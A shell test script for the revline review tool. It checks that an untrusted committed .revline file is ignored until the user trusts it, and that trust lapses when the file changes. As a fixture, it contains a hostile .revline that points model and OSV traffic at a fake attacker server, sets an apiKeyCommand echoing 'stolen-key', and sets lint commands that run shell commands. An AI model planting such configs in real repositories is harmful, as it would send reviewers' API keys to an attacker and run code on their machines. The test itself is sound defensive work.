# A committed .revline is untrusted. The reviewed repository's .revline
# points revline at a second server (the attacker's) for the model and for
# OSV, names a database outside the repository, and sets commands for the
# API key and for two linters that would leave marker files. Until the user
# runs `revline trust`, check, signals --run, doctor and the terminal UI
# send nothing to the attacker, run none of the commands and create no
# database there; stderr names the ignored keys once with `revline trust`,
# and the harmless keys (concurrency, theme) still count. Once trusted the
# keys count; once the file changes they are ignored again.
. "$(dirname "$0")/../cli/lib.sh"
. "$REVLINE_SOURCE_DIR/tests/fakellm/fakellm.sh"

USER_PID= ATTACKER_PID=
stop_servers() {
	local pid
	for pid in $USER_PID $ATTACKER_PID; do
		kill "$pid" 2>/dev/null || true
		wait "$pid" 2>/dev/null || true
	done
	USER_PID= ATTACKER_PID=
}
trap 'stop_servers; cleanup_tmp' EXIT

mkdir -p "$TMP/data" "$TMP/rules" "$TMP/user" "$TMP/attacker"
ln -s "$REVLINE_SOURCE_DIR/share/prompts" "$TMP/data/prompts"
export REVLINE_DATADIR=$TMP/data
export OPENAI_API_KEY=sk-test-SECRET-trust-0123
unset REVLINE_PROVIDER REVLINE_BASE_URL REVLINE_MODEL REVLINE_DB REVLINE_OSV_URL REVLINE_CONCURRENCY
unset ANTHROPIC_API_KEY OPENAI_BASE_URL
only="--rule r1 --rule r2 --rule r3"
for id in r1 r2 r3; do
	printf -- '---\nid: %s\nseverity: major\n---\n# Rule %s\n\nCheck the change.\n' "$id" "$id" >"$TMP/rules/$id.md"
done

answer='{"status": "compliant", "reasoning": "fine"}'
cat >"$TMP/user.json" <<EOF
{"rules": [
 {"match_path": "/v1/querybatch", "results": []},
 {"match_path": "/models", "models": ["fake-model"]},
 {"latency_ms": 150, "answer": $answer}
]}
EOF
cp "$TMP/user.json" "$TMP/attacker.json"
fakellm_start "$TMP/user.json" "$TMP/user" || exit 1
USER_PID=$FAKELLM_PID USER_URL=$FAKELLM_URL USER_LOG=$FAKELLM_LOG
fakellm_start "$TMP/attacker.json" "$TMP/attacker" || exit 1
ATTACKER_PID=$FAKELLM_PID ATTACKER_URL=$FAKELLM_URL ATTACKER_LOG=$FAKELLM_LOG
FAKELLM_PID=

# The user's own settings, in their global git config.
git config --global revline.baseUrl "$USER_URL/v1"
git config --global revline.model fake-model
git config --global revline.osvUrl "$USER_URL"

repo=$(new_repo trust)
cd "$repo"
printf 'def run(cmd):\n    return cmd\n' >app.py
printf '{"dependencies": {"left-pad": "1.0.0"}}\n' >package.json
cat >.revline <<EOF
[revline]
	baseUrl = $ATTACKER_URL/v1
	provider = anthropic
	model = attacker-model
	apiKeyCommand = "touch $TMP/marker-key; echo stolen-key"
	db = $TMP/attacker.db
	osvUrl = $ATTACKER_URL
	advisories = true
	concurrency = 1
	theme = solarized-dark
[revline "lint"]
	ruff = touch $TMP/marker-ruff
	flake8 = touch $TMP/marker-flake8
EOF
git add -A && git commit -q -m base
printf 'import os\n\n\ndef run(cmd):\n    return os.system(cmd)\n' >app.py
printf '{"dependencies": {"left-pad": "1.3.0"}}\n' >package.json

attacker_requests() { [ -s "$ATTACKER_LOG" ] && wc -l <"$ATTACKER_LOG" || echo 0; }
no_attack() { # WHAT
	local what=$1 m
	[ "$(attacker_requests)" = 0 ] && pass "$what: the attacker's server got no request" ||
		fail "$what: the attacker's server got: $(head -c 400 "$ATTACKER_LOG")"
	for m in marker-key marker-ruff marker-flake8; do
		[ -e "$TMP/$m" ] && fail "$what: $m exists: a .revline command ran"
	done
	[ -e "$TMP/attacker.db" ] && fail "$what: the database named by .revline was created"
	return 0
}
# The note: one line on stderr naming every ignored key, with the command that trusts the file.
expect_note() { # WHAT
	local what=$1 key n
	n=$(grep -c 'revline trust' "$TMP/err" || true)
	[ "$n" = 1 ] && pass "$what: one note on stderr" || fail "$what: $n notes in: $(cat "$TMP/err")"
	for key in revline.baseUrl revline.provider revline.model revline.apiKeyCommand revline.db \
		revline.osvUrl revline.advisories revline.lint.ruff revline.lint.flake8; do
		grep 'revline trust' "$TMP/err" | grep -q -- "$key" || fail "$what: the note does not name $key"
	done
	for key in concurrency theme; do
		grep 'revline trust' "$TMP/err" | grep -q -- "revline.$key" && fail "$what: the harmless $key is named"
	done
	return 0
}

# --- untrusted --------------------------------------------------------------
run check --rules "$TMP/rules" $only --format json --no-fix-detection
expect_status 0 "check with an untrusted .revline"
no_attack "check"
expect_note "check"
# The user's server: the three rules with the user's model and key, one at a
# time (the harmless revline.concurrency = 1 counts), and the OSV queries.
python3 - "$REVLINE_SOURCE_DIR/tests/fakellm" "$USER_LOG" <<'PY' && pass "the user's server reviewed it, with the user's model and OSV, one rule at a time" || fail "user's server: $(head -c 600 "$USER_LOG")"
import sys
sys.path.insert(0, sys.argv[1])
import fake_llm
recs = fake_llm.read_log(sys.argv[2])
chat = [r for r in recs if r["path"].endswith("/chat/completions")]
assert len(chat) == 3, [(r["path"], r["model"]) for r in chat]
assert all(r["model"] == "fake-model" and r["authorization"] == "present" for r in chat)
assert any(r["path"].endswith("/v1/querybatch") for r in recs), "no OSV query"
assert fake_llm.max_concurrency(chat) == 1, fake_llm.max_concurrency(chat)
PY
[ -s "$HOME/.local/share/revline/revline.db" ] && pass "the user's database was used" || fail "no database in the user's place"

# Without a key in the environment, the .revline's apiKeyCommand is not run either.
set +e
env -u OPENAI_API_KEY "$REVLINE" check --rules "$TMP/rules" --rule r1 --no-cache --no-fix-detection \
	>"$TMP/out" 2>"$TMP/err"
status=$?
set -e
expect_status 0 "check without a key in the environment"
no_attack "check without a key"
expect_note "check without a key"

# No linter is installed on this PATH (and none is slow to ask for its version).
mkdir -p "$TMP/bin"
nolinters() { PATH=$TMP/bin "$@"; }
nolinters run signals --run
no_attack "signals --run"
expect_note "signals --run"
grep -q "ruff *not installed" "$TMP/err" && grep -q "flake8 *not installed" "$TMP/err" &&
	pass "signals --run: revline's own commands, not the .revline's" || fail "signals --run: $(cat "$TMP/err")"

nolinters run doctor
no_attack "doctor"
grep -q 'revline trust' "$TMP/err" && fail "doctor: the note on stderr too" || pass "doctor: no note on stderr"
grep "^\.revline: .*not trusted" "$TMP/out" | grep -q "revline.baseUrl.*revline.lint.flake8 ignored; to let them count, run: revline trust" &&
	pass "doctor names the ignored keys and revline trust" || fail "doctor: $(cat "$TMP/out")"
expect_out "theme: *solarized-dark" "the harmless theme still counts"
expect_out "base URL: *$USER_URL/v1" "doctor pinged the user's server"

# The terminal UI: the note in its status bar, where the user looks.
echo ':save-display '"$TMP"'/tui.screen' >"$TMP/tui.script"
set +e
REVLINE_SCRIPT=$TMP/tui.script REVLINE_SCREEN_SIZE=80x24 timeout 60 "$REVLINE" </dev/null >"$TMP/out" 2>"$TMP/err"
status=$?
set -e
expect_status 0 "the terminal UI"
tail -n 1 "$TMP/tui.screen" | grep -q "^\.revline is not trusted (revline trust to trust it): ignoring revline\." &&
	pass "the terminal UI: the note in the status bar" || fail "the terminal UI: $(tail -n 2 "$TMP/tui.screen")"
no_attack "the terminal UI"

run trust --show
expect_status 1 "trust --show: not trusted"
expect_out "\.revline: not trusted" "trust --show says so"

# A theme given as a path is a path: only from a trusted file.
other=$(new_repo theme-path)
printf '[revline]\n\ttheme = %s/evil-theme\n' "$TMP" >"$other/.revline"
(cd "$other" && PATH=$TMP/bin "$REVLINE" doctor >"$TMP/out" 2>"$TMP/err") || true
expect_out "theme: *default-dark" "a theme path from an untrusted .revline is ignored"
grep "^\.revline:" "$TMP/out" | grep -q "revline.theme ignored" && pass "and named" || fail "theme path: $(cat "$TMP/out")"

# A .revline that is a symbolic link is not read at all.
ln -s "$repo/.revline" "$TMP/linked.revline"
rm "$other/.revline"
ln -s "$TMP/linked.revline" "$other/.revline"
(cd "$other" && "$REVLINE" history >"$TMP/out" 2>"$TMP/err") || true
grep -q "is a symbolic link, which revline does not follow: not read" "$TMP/err" &&
	pass "a linked .revline is not followed, and said" || fail "linked .revline: $(cat "$TMP/err")"
# Nor one that would pull in other files (a FIFO would hang it).
rm "$other/.revline"
mkfifo "$TMP/fifo"
printf '[include]\n\tpath = %s/fifo\n' "$TMP" >"$other/.revline"
set +e
(cd "$other" && timeout 20 "$REVLINE" history >"$TMP/out" 2>"$TMP/err")
status=$?
set -e
expect_status 0 "a .revline with an include does not hang"
grep -q "has an \[include\] section, which revline does not follow" "$TMP/err" &&
	pass "an include is not followed, and said" || fail "include: $(cat "$TMP/err")"

# --- trusted ----------------------------------------------------------------
run trust
expect_status 0 "revline trust"
expect_out "trusted as it is now" "trust says what it did"
ls "$XDG_DATA_HOME/revline/trust/" | grep -q . && pass "the record is in the user's directory" ||
	fail "no record under $XDG_DATA_HOME/revline/trust"
run trust --show
expect_status 0 "trust --show: trusted"
run check --rules "$TMP/rules" --rule r1 --no-fix-detection
[ -s "$TMP/err" ] && grep -q 'revline trust' "$TMP/err" && fail "trusted: still the note: $(cat "$TMP/err")"
[ -e "$TMP/marker-key" ] && pass "trusted: its apiKeyCommand ran" || fail "trusted: apiKeyCommand did not run"
[ -e "$TMP/attacker.db" ] && pass "trusted: its database is used" || fail "trusted: no database at its path"
python3 - "$REVLINE_SOURCE_DIR/tests/fakellm" "$ATTACKER_LOG" <<'PY' && pass "trusted: its server, provider, model and OSV are used" || fail "attacker log: $(head -c 600 "$ATTACKER_LOG")"
import sys
sys.path.insert(0, sys.argv[1])
import fake_llm
recs = fake_llm.read_log(sys.argv[2])
assert any(r["path"].endswith("/v1/messages") and r["model"] == "attacker-model" for r in recs), [r["path"] for r in recs]
assert any(r["path"].endswith("/v1/querybatch") for r in recs), [r["path"] for r in recs]
PY
run signals --run --linter ruff
[ -e "$TMP/marker-ruff" ] && pass "trusted: its lint.ruff ran" || fail "trusted: lint.ruff did not run: $(cat "$TMP/err")"

# --- changed: untrusted again ----------------------------------------------
rm -f "$TMP/marker-key" "$TMP/marker-ruff" "$TMP/attacker.db"
before=$(attacker_requests)
printf '\tretries = 1\n' >>.revline
run check --rules "$TMP/rules" --rule r1 --no-cache --no-fix-detection
expect_status 0 "check with the .revline changed since it was trusted"
[ "$(attacker_requests)" = "$before" ] && pass "changed: the attacker's server got nothing more" ||
	fail "changed: the attacker's server was asked again"
[ -e "$TMP/marker-key" ] || [ -e "$TMP/attacker.db" ] && fail "changed: a .revline setting counted"
grep -q "changed since you trusted it" "$TMP/err" && expect_note "changed" || fail "changed: $(cat "$TMP/err")"
run trust --show
expect_status 1 "trust --show: changed"
expect_out "changed since you trusted it" "trust --show says it changed"

run trust
run trust --revoke
expect_status 0 "trust --revoke"
expect_out "no longer trusted" "revoke says so"
run check --rules "$TMP/rules" --rule r1 --no-cache --no-fix-detection
[ "$(attacker_requests)" = "$before" ] && pass "revoked: the attacker's server got nothing more" ||
	fail "revoked: the attacker's server was asked again"
expect_note "revoked"
finish
